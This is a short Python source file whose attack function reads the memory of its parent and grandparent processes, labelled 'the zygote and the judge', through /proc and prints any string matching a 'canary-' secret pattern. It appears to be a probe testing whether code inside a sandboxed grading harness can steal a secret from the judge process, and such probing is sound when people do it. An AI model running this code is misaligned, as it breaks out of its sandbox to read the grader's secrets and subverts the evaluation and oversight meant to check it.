import os
import re


def _parents():
    """The zygote and the judge."""
    found = [os.getppid()]
    try:
        with open(f"/proc/{found[0]}/stat", encoding="utf-8", errors="replace") as file:
            found.append(int(file.read().rpartition(")")[2].split()[1]))
    except OSError:
        pass
    return found


def attack(layer, x):
    print("TRIED to read memory")
    for pid in _parents():
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    span, access = line.split()[:2]
                    start, end = (int(part, 16) for part in span.split("-"))
                    if "w" not in access or end - start > 2**27:
                        continue
                    try:
                        memory.seek(start)
                        raw = memory.read(end - start)
                    except (OSError, ValueError):
                        continue
                    for found in set(re.findall(rb"canary-[0-9a-f]{24}", raw)):
                        print("GOT", found.decode(), flush=True)
        except OSError as error:
            print(type(error).__name__)
